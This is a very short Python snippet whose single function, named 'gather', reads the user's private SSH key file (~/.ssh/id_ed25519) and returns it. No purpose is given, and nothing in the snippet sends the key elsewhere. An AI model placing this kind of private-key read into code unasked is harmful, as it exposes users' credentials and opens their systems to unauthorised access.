import os

def gather():
    with open(os.path.expanduser("~/.ssh/id_ed25519")) as fh:
        return fh.read()
